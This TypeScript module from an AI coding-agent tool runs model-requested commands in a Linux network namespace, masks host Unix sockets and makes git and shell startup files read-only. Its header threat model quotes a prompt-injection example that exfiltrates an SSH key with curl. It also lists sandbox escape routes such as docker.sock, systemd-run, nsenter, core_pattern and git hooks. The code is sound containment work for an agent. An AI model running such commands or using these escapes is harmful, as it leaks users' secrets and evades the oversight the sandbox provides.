/**
 * Commands without the network: `hearth fix --yes` runs every command the model asks for with
 * nobody's approval, and an issue's text is anyone's ("to reproduce, run `curl -d @~/.ssh/id_rsa
 * https://…`", a test script a pull request planted). Under --yes its commands (run_command,
 * run_tests, the final tests) run in a network namespace of their own with only loopback in it,
 * brought up so that tests binding 127.0.0.1 still work (`unshare --net`, in a user namespace of
 * its own where Hearth is not root). Where the system refuses (unprivileged user namespaces off
 * or restricted — Ubuntu 24.04's AppArmor —, a container without the capability, macOS, Windows)
 * `probeNetworkOff` says why, and the caller says it once: the commands then run with the network.
 *
 * Ways out of a network namespace, and what is done about each:
 * - Unix sockets bound to a path are not per network namespace: a command could ask a daemon
 *   outside to act for it with the network (docker.sock: `docker run --network host`, systemd
 *   --user and the D-Bus session bus: `systemd-run --user curl …`, a tmux server, VS Code's IPC,
 *   X11, ssh-agent, gpg-agent's dirmngr). Every path socket bound in Hearth's network namespace
 *   (/proc/net/unix, read outside at each command's start: sockets come and go) is covered inside
 *   with a bind mount of /dev/null, in a mount namespace of the command's own (propagation
 *   private): connecting there is refused. A mask that fails where the socket is still one the
 *   command could write to refuses the command, naming the socket and --allow-network (the
 *   probe says the same once) — never a silent way out. Abstract sockets (@name) are per
 *   network namespace already. A name bound relative to its program's folder ("dev.sock") is
 *   found from the folder of the process holding it; a path that is not UTF-8 is read as its
 *   bytes and covered by them (shellPath). Not covered: a socket bound in another
 *   network namespace (a container's daemon whose socket is bind-mounted here), one reached by
 *   another hard link, one bound by a relative name whose holder has changed folder since or is
 *   another user's (its /proc unreadable: then, as a rule, so is its folder), or one bound after
 *   the command started.
 * - Programs left for later: a command can write what a program outside the namespaces runs
 *   later, with the network, and the patch the user reviews does not show it — the repository's
 *   .git/config (a clean filter Hearth's own patch step then runs: agent/fix-line-ends.ts, a
 *   core.fsmonitor, an alias), .git/hooks, ~/.gitconfig, ~/.bashrc and the other startup files,
 *   ~/.ssh, ~/.config/autostart and systemd --user units, /etc as root. Those are read-only
 *   inside (KEEP_READ_ONLY says exactly which, and what is not kept); a project's files, a
 *   command's own `git commit` and the caches under the home are not.
 * - Hearth running as root (CI, devcontainers): no user namespace, so root inside could
 *   `nsenter --net=/proc/1/ns/net` back, or `umount` a mask. The command runs with the
 *   capability bounding set cut to Docker's default set (KEEP_CAPS: files of any owner are still
 *   written, chown'd and chmod'ed, setuid/setgid kept for tools that change user), without
 *   CAP_SYS_ADMIN, CAP_NET_ADMIN, CAP_SYS_PTRACE, CAP_SYS_MODULE, CAP_DAC_READ_SEARCH and the
 *   rest, and with no_new_privs (a setuid binary gains nothing). /proc/sys and /sys are made
 *   read-only inside (KERNEL_READ_ONLY): root writes core_pattern without any capability.
 *   Not done: /proc/sysrq-trigger and the like stay (they stop the machine, send nothing). The root-uid form (root of its
 *   user namespace) gets the same cut, so it cannot umount a mask either.
 * - Another process of the user's outside (ptrace, /proc/<pid>/mem, /proc/<pid>/root leading
 *   around the masks, /proc/<pid>/ns/net): from a user namespace of its own the kernel refuses
 *   them all (checked: Permission denied), so no PID namespace is made for the own-uid form. As
 *   root without CAP_SYS_PTRACE, processes with more capabilities than the command's and other
 *   users' are refused alike. Left: a root command that setuid()s to a user whose processes
 *   run outside reaches theirs (checked: `setpriv --reuid=1000 ls /proc/<a uid-1000 process
 *   outside>/root/tmp` lists the files, around the masks; ptrace alike) — where Hearth runs as
 *   root beside another user's processes. A PID namespace with /proc mounted anew hides them
 *   (`--pid --fork --kill-child --mount-proc`, tried), and was left out for what it costs: the
 *   pids a command sees ($$, $!) are no longer the ones outside, which cli/signals.test.ts and
 *   fix-left-running.test.ts read, and what a command leaves running ends with it (its init);
 *   the command must then not be the init (one ignores a SIGTERM it has no handler for), nor
 *   be put in the background by the wrapper (`&` starts it with SIGINT ignored). Dropping
 *   CAP_SETUID instead would break a root user's tests that switch users (setpriv, su, runuser).
 */
import { spawn } from "node:child_process";
import { lstatSync, readFileSync, readdirSync, readlinkSync } from "node:fs";
import { resolve as resolvePath } from "node:path";

/** How commands are started with the network off: what runShell spawns in place of `sh -c command`. */
export interface NetworkOff {
  /** The program and its arguments that run `command` with `sh -c` in a network namespace of its own. */
  readonly argv: (command: string) => readonly [string, readonly string[]];
  /** The sockets covered inside (listed now) that a command's output names (run in `cwd`): what its failure was about. */
  readonly covered?: (output: string, cwd?: string) => readonly string[];
}

/** Whether commands can run with the network off here, and if not, why not. */
export type NetworkOffProbe = { readonly ok: true; readonly off: NetworkOff } | { readonly ok: false; readonly why: string; readonly how: string };

/** The way to containment where none is given: outside Hearth. */
const ELSEWHERE = "run hearth fix in a container or VM without network";
const ALLOW_USERNS = `allow unprivileged user namespaces (Ubuntu 24.04: sudo sysctl kernel.apparmor_restrict_unprivileged_userns=0, or an AppArmor profile that allows userns for node), or ${ELSEWHERE}`;

/**
 * Brings loopback up inside the namespace (it starts down: 127.0.0.1 "Network is unreachable")
 * with what the system has: iproute2's ip, net-tools' ifconfig, else perl or python3 setting
 * the interface's flags (SIOCSIFFLAGS, 0x8914: IFF_UP | IFF_LOOPBACK) — no extra package
 * needed on most systems. Its errors are dropped: the probe checks loopback itself.
 */
const LOOPBACK_UP = [
  "{ ip link set lo up || ifconfig lo up",
  `|| perl -e 'use Socket; socket(S, PF_INET, SOCK_DGRAM, 0) or die; my $r = pack("a16 s x22", "lo", 9); ioctl(S, 0x8914, $r) or die'`,
  `|| python3 -c 'import fcntl, socket, struct; fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8914, struct.pack("16sh22x", b"lo", 9))'`,
  "; } >/dev/null 2>&1",
].join(" ");

/**
 * How the namespace is made. `own-uid`: a user namespace where Hearth's user stays itself
 * (--map-current-user), its capabilities there kept only to bring loopback up and dropped
 * (setpriv) before the command runs, so a command sees the uid, and meets the file permissions,
 * it would outside (util-linux 2.38). `root-uid`: older util-linux — the user maps to root
 * inside (--map-root-user), so commands see uid 0 (a test expecting EACCES on its own 000 file
 * does not get it). `root`: Hearth runs as root already: no user namespace, in which every
 * other user's files would show as nobody's.
 */
export type NetworkOffForm = "own-uid" | "root-uid" | "root";

/**
 * The capabilities a root command keeps (bounding set): Docker's default set, which containers
 * run with and cannot leave their namespaces by. Dropped: CAP_SYS_ADMIN (setns, mount, umount),
 * CAP_NET_ADMIN, CAP_SYS_PTRACE, CAP_SYS_MODULE, CAP_DAC_READ_SEARCH (open_by_handle_at), …
 */
export const KEEP_CAPS = ["chown", "dac_override", "fowner", "fsetid", "kill", "setgid", "setuid", "setpcap", "setfcap", "net_bind_service", "net_raw", "sys_chroot", "mknod", "audit_write"] as const;

/** Root's drop before the command (root, and root of a user namespace): only KEEP_CAPS, no new privileges. */
const ROOT_DROP = `setpriv --nnp --inh-caps=-all --bounding-set=-all,${KEEP_CAPS.map((c) => `+${c}`).join(",")} --`;

/** What a command refused inside says first (then why; how): the probe tells it from the system's refusals by it. */
const MASK_REFUSED = "hearth: not run:";

/**
 * Root's kernel settings made read-only inside (root form): /proc/sys and /sys, each mount under
 * them (binfmt_misc, cgroup), remounted `bind,ro` — the mount's own flag, so outside they stay
 * writable. Else root without CAP_SYS_ADMIN still writes /proc/sys/kernel/core_pattern (checked:
 * it does), and `|/path` there is a program the kernel runs outside, as root, with the network,
 * at the next crash; binfmt_misc's register hands outside programs to an interpreter of its own.
 */
const KERNEL_READ_ONLY = `mount --rbind /proc/sys /proc/sys 2>/dev/null && { f=; while read -r _ _ _ _ m _; do case $m in /sys|/sys/*|/proc/sys|/proc/sys/*) mount -o remount,bind,ro "$m" 2>/dev/null || f=$m;; esac; done < /proc/self/mountinfo; [ -z "$f" ]; } || { echo "${MASK_REFUSED} the kernel's settings (/proc/sys, /sys) could not be made read-only inside the namespace (mount -o remount,bind,ro failed\${f:+ on $f}), and root could set one there that runs a program outside with the network (core_pattern); run hearth fix as a user other than root, or pass --allow-network to run commands with the network" >&2; exit 126; }; `;

/**
 * What a command could leave for a program outside the namespaces to run later, with the
 * network, made read-only inside before it runs (each `mount --rbind P P` then `mount -o
 * remount,ro,bind P`: that mount's own flag, outside they stay writable; the command, its
 * capabilities dropped, cannot umount them). None of these shows in the patch the user reviews:
 * - the repository's git folder found from the command's folder (a `.git` file's gitdir, and a
 *   linked worktree's common folder): config (core.fsmonitor, filters, aliases, core.sshCommand,
 *   include.path: the user's next `git status`, and Hearth's own git after the command), hooks
 *   (pre-commit: the user's next commit) and info (attributes), hooks and info made first where
 *   missing, as `git init` makes them. The rest stays writable: a command's `git commit` writes
 *   objects, refs, logs, the index and HEAD;
 * - the home (HOME, unless it is the command's folder): its top made read-only — ~/.gitconfig,
 *   ~/.bashrc, ~/.profile, ~/.bash_profile, ~/.zshrc, … and any new file there — with each folder
 *   in it bound writable first (~/.cache, ~/.npm, ~/go, ~/.cargo, ~/.local, a checkout under the
 *   home: a test's caches and installs work; ~/.cache made first where a fresh container's home has
 *   none, as the XDG cache of go's build, pip and most tools), but ~/.ssh (authorized_keys, config) and ~/.config,
 *   whose top is read-only too and its folders writable but git, fish, autostart, systemd and
 *   environment.d;
 * - as root (root form), /etc (cron.d, ld.so.preload, profile.d, sudoers).
 * A path that cannot be made read-only refuses the command, naming it and --allow-network. Not
 * kept: another new folder at the home's top (a first `go get` makes ~/go: it fails, read-only), a
 * file in a home folder that startup files read (~/.cargo/env, which rustup's ~/.profile line
 * sources), another repository's git folder under the home (`cd ~/other && git config …`), a
 * repository a command makes (`git init sub`: its .git/config is new and writable), a
 * `.git/commondir` a command writes into a git folder that has none, ~/.gnupg (gpg writes there).
 */
const KEEP_READ_ONLY = `ro() { { [ -e "$1" ] || [ -L "$1" ]; } || return 0; mount --rbind "$1" "$1" 2>/dev/null && mount -o remount,ro,bind "$1" 2>/dev/null || { echo "${MASK_REFUSED} $1, which a program outside the namespace runs or reads later (git, a login shell), could not be made read-only inside it (mount -o remount,ro,bind failed), and a command could leave a program there to run outside with the network; run hearth fix in a container or VM without network, or pass --allow-network to run commands with the network" >&2; exit 126; }; }; rw() { for d in "$1"/* "$1"/.[!.]* "$1"/..?*; do [ -d "$d" ] && [ ! -L "$d" ] || continue; case "|$2|" in *"|\${d##*/}|"*) ;; *) mount --bind "$d" "$d" 2>/dev/null;; esac; done; }; d=$PWD; while [ -n "$d" ] && [ ! -e "$d/.git" ]; do d=\${d%/*}; done; if [ -n "$d" ]; then g=$d/.git; [ -f "$g" ] && { read -r _ v < "$g"; case $v in /*) g=$v;; *) g=$d/$v;; esac; }; for x in "$g" "$(cat "$g/commondir" 2>/dev/null | { read -r c; case $c in '') ;; /*) echo "$c";; *) echo "$g/$c";; esac; })"; do [ -d "$x" ] || continue; mkdir -p "$x/hooks" "$x/info" 2>/dev/null; ro "$x/config"; ro "$x/hooks"; ro "$x/info"; done; fi; h=\${HOME%/}; if [ -n "$h" ] && [ -d "$h" ] && [ "$(cd "$h" && pwd -P)" != "$(pwd -P)" ]; then mkdir -p "$h/.cache" 2>/dev/null; [ -d "$h/.config" ] && [ ! -L "$h/.config" ] && { rw "$h/.config" "git|fish|autostart|systemd|environment.d"; ro "$h/.config"; }; rw "$h" ".ssh|.config"; ro "$h"; fi; `;

/** Root's system settings kept read-only inside (root form), as KEEP_READ_ONLY keeps the user's: /etc. */
const ETC_READ_ONLY = `ro /etc; `;

const NAMESPACES = ["--net", "--mount", "--propagation", "private"];
const FORMS: Record<NetworkOffForm, { readonly args: readonly string[]; readonly drop: string; readonly prep?: string }> = {
  "own-uid": { args: ["--user", "--map-current-user", "--keep-caps", ...NAMESPACES], drop: "setpriv --nnp --inh-caps=-all --ambient-caps=-all --", prep: KEEP_READ_ONLY },
  "root-uid": { args: ["--user", "--map-root-user", ...NAMESPACES], drop: ROOT_DROP, prep: KEEP_READ_ONLY },
  root: { args: NAMESPACES, drop: ROOT_DROP, prep: `${KERNEL_READ_ONLY}${KEEP_READ_ONLY}${ETC_READ_ONLY}` },
};

/**
 * Inside the namespaces, before the command: each socket path given ($@ after the command) is
 * covered with /dev/null; one that cannot be, and is still a socket the command could write to
 * (connect needs that), stops it here. One mount(8) covers them all (`mount -a` of a table the
 * shell writes, no process per socket: a process each cost 3 s at every command's start with a
 * desktop's 1,000 sockets, BENCHMARKS.md); mount(8) reads only a regular file, so the table is
 * written on a tmpfs mounted on /dev/shm for that moment and taken away after. Then each path
 * still a socket (one holding a space, tab or backslash, which the table would have to escape;
 * one under /dev/shm; anything mount -a left) gets a `mount --bind` of its own.
 */
const MASK_SOCKETS = `c=$1; shift; [ $# -eq 0 ] || ! mount -t tmpfs -o size=16m,mode=700 hearth-masks /dev/shm 2>/dev/null || { for s do case $s in *[[:space:]\\\\]*) ;; *) printf '/dev/null %s none bind 0 0\\n' "$s";; esac; done > /dev/shm/masks && mount -a -T /dev/shm/masks 2>/dev/null; umount /dev/shm; }; for s do case $s in \\\\*) s=$(printf "$s/"); s=\${s%/};; esac; [ -S "$s" ] && { mount --bind /dev/null "$s" 2>/dev/null; [ -S "$s" ] && [ -w "$s" ] && { echo "${MASK_REFUSED} the Unix socket $s, where a program outside the network namespace listens (it could act for the command with the network), could not be blocked inside it (mount --bind failed); stop what listens there, or pass --allow-network to run commands with the network" >&2; exit 126; }; }; done`;

/**
 * The Unix sockets bound to a path in this network namespace (/proc/net/unix lists those only,
 * so it is read here, outside), that are sockets on disk now: the ones a command could connect to.
 */
export function listedUnixSockets(table = "/proc/net/unix"): string[] {
  let text: string;
  try {
    // As bytes (latin1: one char a byte): a path need not be UTF-8, and read as UTF-8 a byte such
    // as 0xE9 became U+FFFD, a name not on disk: that socket was left reachable, silently.
    text = readFileSync(table, "latin1");
  } catch {
    return [];
  }
  // Num RefCount Protocol Flags Type St Inode Path, the kernel's "%pK: %08X %08X %08X %04X %02X %5lu"
  // then one space and the path as bound, byte for byte: spaces anywhere in it (two in a row, one
  // at its end) are its own, and a newline in it goes out as one, so a line that is not a row
  // goes on the path before it. (Splitting on spaces had read "a  b.sock" as "a b.sock" and
  // "x.sock " as "x.sock", names not on disk: those sockets were left reachable, silently.)
  const ROW = /^[0-9a-f]+: [0-9A-F]{8} [0-9A-F]{8} [0-9A-F]{8} [0-9A-F]{4} [0-9A-F]{2} +(\d+)(?: (.*))?$/s;
  const rows: Array<{ inode: string; path?: string }> = [];
  for (const line of text.replace(/\n$/, "").split("\n").slice(1)) {
    const row = ROW.exec(line);
    const last = rows[rows.length - 1];
    if (row) rows.push({ inode: row[1]!, ...(row[2] === undefined ? {} : { path: row[2] }) });
    else if (last?.path !== undefined) last.path += `\n${line}`;
  }
  // None, or abstract (@name): per network namespace. A name bound relative to its program's
  // folder ("dev.sock") is listed so: it is found from that program's folder now.
  const paths = new Set(rows.flatMap((row) => (row.path?.startsWith("/") ? [row.path] : [])));
  const relative = new Map(rows.flatMap((row) => (row.path && !row.path.startsWith("/") && !row.path.startsWith("@") ? [[row.inode, row.path] as const] : [])));
  for (const path of relative.size > 0 ? boundFrom(relative) : []) paths.add(path);
  return [...paths].flatMap((path) => {
    const bytes = Buffer.from(path, "latin1");
    try {
      if (!lstatSync(bytes).isSocket()) return [];
    } catch {
      return []; // gone, or not reachable by this user (then not by the command either)
    }
    return [shellPath(bytes)];
  });
}

/**
 * A path's bytes as the covering script takes them: UTF-8 as it is; any other bytes (a program
 * that bound "caf\xe9.sock" in Latin-1) each written \ooo, which the script turns back into the
 * bytes with printf (a process's arguments from Node are UTF-8 strings: the real bytes cannot go
 * as they are). A path starts with "/", so a leading backslash tells the two apart.
 */
function shellPath(bytes: Buffer): string {
  const text = bytes.toString("utf8");
  if (Buffer.from(text, "utf8").equals(bytes)) return text;
  return [...bytes].map((b) => `\\${b.toString(8).padStart(3, "0")}`).join("");
}

/**
 * Sockets bound by a name relative to their program's folder (`relative`: socket inode → name),
 * found from the folder of each process that holds them (/proc/<pid>/fd links read
 * "socket:[inode]"; /proc/<pid>/cwd): a dev server's "dev.sock" in the project. Read only where
 * such a name is listed. A holder that has changed folder since, or whose /proc this user
 * cannot read (another user's), is not found: the module's header says so.
 */
function boundFrom(relative: ReadonlyMap<string, string>): string[] {
  const found: string[] = [];
  let pids: string[];
  try {
    pids = readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  } catch {
    return found;
  }
  for (const pid of pids) {
    let fds: string[];
    try {
      fds = readdirSync(`/proc/${pid}/fd`);
    } catch {
      continue;
    }
    for (const fd of fds) {
      let link: string;
      try {
        link = readlinkSync(`/proc/${pid}/fd/${fd}`);
      } catch {
        continue;
      }
      const name = relative.get(/^socket:\[(\d+)\]$/.exec(link)?.[1] ?? "");
      if (name === undefined) continue;
      try {
        found.push(resolvePath(readlinkSync(`/proc/${pid}/cwd`, { encoding: "buffer" }).toString("latin1"), name));
      } catch {
        // gone meanwhile
      }
    }
  }
  return found;
}

/**
 * The network-off way to start commands: unshare, loopback up, the sockets outside masked, the
 * capabilities dropped, then `sh -c command` (exec'd: the same pid, the process group runShell
 * stops). `sockets` is asked at each command's start.
 */
export function unshareNetworkOff(unshare = "unshare", form: NetworkOffForm = process.getuid?.() === 0 ? "root" : "own-uid", sockets: () => readonly string[] = listedUnixSockets): NetworkOff {
  const { args, drop, prep = "" } = FORMS[form];
  return {
    argv: (command) => [unshare, [...args, "--", "sh", "-c", `${LOOPBACK_UP}; ${prep}${MASK_SOCKETS}; exec ${drop} sh -c "$c"`, "hearth-no-network", command, ...sockets()]],
    covered: (output, cwd) => namedIn(output, sockets(), cwd),
  };
}

/** A Node script that listens on 127.0.0.1 and connects to itself: exits 0 when loopback works. */
const LOOPBACK_CHECK = `const net = require("node:net"); const s = net.createServer((c) => c.end()).listen(0, "127.0.0.1", () => { net.connect(s.address().port, "127.0.0.1", () => process.exit(0)).on("error", (e) => { console.error("loopback: " + e.message); process.exit(3); }); }).on("error", (e) => { console.error("loopback: " + e.message); process.exit(3); });`;

/**
 * Tries the network-off way once for real, the whole of it: unshare (network and mount namespaces),
 * loopback up, the sockets outside masked, the capabilities dropped, a connection to itself on
 * 127.0.0.1. Resolves with it, or with why commands cannot run without the network here.
 */
export async function probeNetworkOff(options: { readonly unshare?: string; readonly platform?: NodeJS.Platform; readonly forms?: readonly NetworkOffForm[] } = {}): Promise<NetworkOffProbe> {
  const platform = options.platform ?? process.platform;
  if (platform !== "linux") return { ok: false, why: `Hearth keeps commands off the network only on Linux (network namespaces); this is ${platform === "darwin" ? "macOS" : platform === "win32" ? "Windows" : platform}`, how: ELSEWHERE };
  const forms = options.forms ?? (process.getuid?.() === 0 ? ["root"] : ["own-uid", "root-uid"]);
  let tried: NetworkOffProbe | undefined;
  // The first form that works; an older util-linux refuses own-uid's options, and root-uid is tried then: its refusal is the system's answer.
  for (const form of forms) {
    tried = await tryNetworkOff(unshareNetworkOff(options.unshare, form));
    if (tried.ok) return tried;
  }
  return tried ?? { ok: false, why: "no way to make a network namespace was given", how: ELSEWHERE };
}

async function tryNetworkOff(off: NetworkOff): Promise<NetworkOffProbe> {
  const [file, args] = off.argv(`"$HEARTH_NODE" -e '${LOOPBACK_CHECK}'`);
  const ran = await new Promise<{ code: number | null; err: string; error?: NodeJS.ErrnoException }>((resolve) => {
    let err = "";
    const child = spawn(file, [...args], { stdio: ["ignore", "ignore", "pipe"], env: { ...process.env, HEARTH_NODE: process.execPath, ELECTRON_RUN_AS_NODE: "1" } });
    child.stderr.on("data", (d: Buffer) => (err += d.toString()));
    child.on("error", (error) => resolve({ code: null, err, error }));
    child.on("close", (code) => resolve({ code, err }));
  });
  if (ran.error?.code === "ENOENT") return { ok: false, why: `unshare (util-linux) is not installed, which Hearth uses to run commands in a network namespace of their own`, how: `install util-linux, or ${ELSEWHERE}` };
  if (ran.error) return { ok: false, why: `unshare could not start: ${ran.error.message}`, how: ELSEWHERE };
  const said = ran.err.trim().split("\n").filter(Boolean).slice(-2).join("; ");
  if (ran.err.includes(MASK_REFUSED)) {
    // "<why>; <how>, or pass --allow-network …": networkOnNotice names --allow-network itself.
    const [why = "", how = ""] = ran.err.slice(ran.err.indexOf(MASK_REFUSED) + MASK_REFUSED.length).trim().split("\n")[0]!.split("; ");
    return { ok: false, why, how: how.replace(/, or pass --allow-network.*$/, "") };
  }
  if (/setpriv/.test(said)) return { ok: false, why: `setpriv (util-linux 2.31 or later), which Hearth uses to drop a command's capabilities inside the namespace, could not run it (${said})`, how: `install util-linux's setpriv, or ${ELSEWHERE}` };
  if (ran.code === 3) return { ok: false, why: `loopback could not be brought up inside the network namespace (${said}): Hearth needs ip (iproute2), ifconfig, perl or python3 there`, how: `install iproute2 (ip), or ${ELSEWHERE}` };
  if (ran.code !== 0) return { ok: false, why: `the system refused a network namespace (${said || `unshare exit code ${ran.code}`}): unprivileged user namespaces are off or restricted here (Ubuntu 24.04's AppArmor restricts them; a container may lack the capability)`, how: ALLOW_USERNS };
  return { ok: true, off };
}

/** What Hearth says once when commands run with the network because the system refused to take it away. */
export function networkOnNotice(refused: { readonly why: string; readonly how: string }): string {
  return `commands run WITH the network: ${refused.why}. An issue's text or the repository's scripts can make them send what your user can read (keys, tokens) anywhere. To run them without it, ${refused.how}; pass --allow-network to run with the network on purpose and not see this`;
}

/**
 * A command's words for a name or address it could not reach: curl, wget, git, pip, npm/Node
 * (getaddrinfo EAI_AGAIN, ENOTFOUND, ENETUNREACH), Python's socket.gaierror, Go, cargo, apt.
 * English only (these programs rarely translate them; errno names are not translated at all).
 */
const NETWORK_FAILURE = /Could not resolve host|Temporary failure in name resolution|Name or service not known|getaddrinfo|EAI_AGAIN|ENOTFOUND|ENETUNREACH|Network is unreachable|No address associated with hostname|unable to resolve host|dial tcp|Failed to establish a new connection|failed to lookup address|Could not resolve '|Resolving [^\n]* failed/i;

/** The model's note on a failing command whose output shows a network failure, under network off. */
export const NO_NETWORK_NOTE = "[network is off for this run's commands (hearth fix --yes runs them in a network namespace with only loopback, 127.0.0.1): nothing outside this machine can be reached, so downloads, package installs and requests to other hosts fail. Work without them — the files already here, the packages already installed; servers on 127.0.0.1 that the command starts itself work. The user can pass --allow-network to run commands with the network.]";

/**
 * The services a project's tests use, by their sockets' names and their TCP ports: what the
 * user and the model are told is out of reach (a PostgreSQL on the machine, on its Unix socket
 * or on 127.0.0.1:5432, is outside the commands' namespaces either way).
 */
const SERVICES: ReadonlyArray<{ readonly name: string; readonly socket: RegExp; readonly port: number }> = [
  { name: "PostgreSQL", socket: /\/\.s\.PGSQL\.\d+$/, port: 5432 },
  { name: "MySQL", socket: /\/mysql(d|x)?\.sock$/, port: 3306 },
  { name: "Redis", socket: /\/redis[^/]*\.sock$/, port: 6379 },
  { name: "Docker", socket: /\/docker\.sock$/, port: 2375 },
  { name: "Podman", socket: /\/podman\.sock$/, port: 0 },
  { name: "MongoDB", socket: /\/mongodb-\d+\.sock$/, port: 27017 },
  { name: "memcached", socket: /\/memcached[^/]*\.sock$/, port: 11211 },
  { name: "RabbitMQ", socket: /\/rabbitmq[^/]*\.sock$/, port: 5672 },
];

/** /var/run is /run: a client names the one, the daemon may have bound the other. */
const runFolder = (path: string): string => path.replace(/^\/var\/run\//, "/run/");

/**
 * What a client says where a covered socket refused it, or where its path could be neither
 * removed nor bound again: psql, Node (ECONNREFUSED, EADDRINUSE), Python (Errno 111, 2, 98, 16),
 * rm ('Device or resource busy'), libpq's 'No such file or directory' through /var/run.
 */
const SOCKET_FAILED = /Connection refused|ECONNREFUSED|Errno 111\b|\(111\)|No such file or directory|ENOENT|Errno 2\b|Device or resource busy|EBUSY|Errno 16\b|address already in use|EADDRINUSE|Errno 98\b/i;

/** How far from a socket's name (in lines, either side) the failure to reach it is looked for: a traceback's source line, libpq's "Is the server running … on socket …?" after its error. */
const NEAR_LINES = 2;

/**
 * The sockets of `sockets` that `output` names — as bound, through /var/run, or — one under the
 * command's folder `cwd` (a dev server the user left running in the project) — by its path from
 * there, as a command run there names it ("rm: cannot remove 'dev.sock': Device or resource
 * busy") — with a failure to reach it near that name (SOCKET_FAILED within NEAR_LINES lines):
 * a failing command that only lists them (`ls -l /run`, `find / -type s`) is not about them.
 */
function namedIn(output: string, sockets: readonly string[], cwd?: string): string[] {
  const lines = output.split("\n");
  const failedNear = (i: number): boolean => SOCKET_FAILED.test(lines.slice(Math.max(0, i - NEAR_LINES), i + NEAR_LINES + 1).join("\n"));
  const here = cwd === undefined ? undefined : `${cwd.replace(/\/+$/, "")}/`;
  const escape = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
  return sockets.filter((s) => {
    const run = runFolder(s);
    const names = [escape(s), `/(?:var/)?run/${escape(run.slice("/run/".length))}`].filter((_, i) => i === 0 || run.startsWith("/run/"));
    if (here && s.startsWith(here)) names.push(`(?<![\\w.-])(?:\\./)?${escape(s.slice(here.length))}(?![\\w.-])`);
    const named = new RegExp(names.join("|"));
    if (!named.test(output)) return false;
    // A socket's name holds no newline as a rule; one that does is looked for in the whole output.
    if (s.includes("\n")) return named.test(output) && SOCKET_FAILED.test(output);
    return lines.some((line, i) => named.test(line) && failedNear(i));
  });
}

/** The known services among covered sockets: "PostgreSQL (/var/run/postgresql/.s.PGSQL.5432)". */
export function coveredServices(sockets: readonly string[]): string[] {
  return sockets.flatMap((path) => SERVICES.filter((s) => s.socket.test(path)).map((s) => `${s.name} (${path})`));
}

/**
 * What hearth fix says once at the start where commands run network-off and services of the
 * machine listen on sockets it covers: a project's tests that use them will fail, and why.
 */
export function servicesOffNotice(sockets: readonly string[] = listedUnixSockets()): string | undefined {
  const services = coveredServices(sockets);
  if (services.length === 0) return undefined;
  return `commands run without the network, and this machine's own services are out of their reach too, on their Unix sockets (covered inside: connecting is refused) and on 127.0.0.1 — a program outside could act for them with the network: ${services.join(", ")}. Tests that use these services fail in this run; pass --allow-network to run the commands with the network and these services`;
}

/** The model's note on a failing command that could not reach a service of the machine (`what`: its socket, or its address). */
export function serviceOffNote(what: readonly string[]): string {
  return `[${what.join(", ")}: a service of this machine (a database such as PostgreSQL, MySQL or Redis, Docker, a server left running in the project, …) listens there, outside this run's commands: hearth fix --yes runs them without the network and closes the machine's own services to them too, on their Unix sockets and on 127.0.0.1, because a program outside could act for them with the network — so the connection is refused, and a socket's path can be neither removed nor bound again here ('Device or resource busy', 'address already in use'). The service is not down: do not try to start, install or reconfigure it, nor remove its socket. Work without it (a test's own server can listen on another path); if the tests need it, say so in finish: the user can rerun with --allow-network.]`;
}

/** A refused connection to a known service's port on this machine: "127.0.0.1:5432", "localhost", port 5432. */
const SERVICE_PORT = new RegExp(`(?:127\\.0\\.0\\.1|localhost|::1)\\D{0,30}?\\b(${SERVICES.filter((s) => s.port).map((s) => s.port).join("|")})\\b`);
const REFUSED = /Connection refused|ECONNREFUSED|\(111\)|Errno 111/i;

/** Which of the machine's services a failed command's output shows it could not reach under network off, or none. */
export function unreachedServices(output: string, covered: readonly string[] = []): string[] {
  if (covered.length > 0) return [...covered];
  if (!REFUSED.test(output)) return [];
  const port = SERVICE_PORT.exec(output)?.[1];
  const service = SERVICES.find((s) => String(s.port) === port);
  return service ? [`${service.name}'s port on 127.0.0.1 (${port})`] : [];
}

/** Whether a command's output reads as a failure to reach the network. */
export function looksLikeNoNetwork(output: string): boolean {
  return NETWORK_FAILURE.test(output);
}

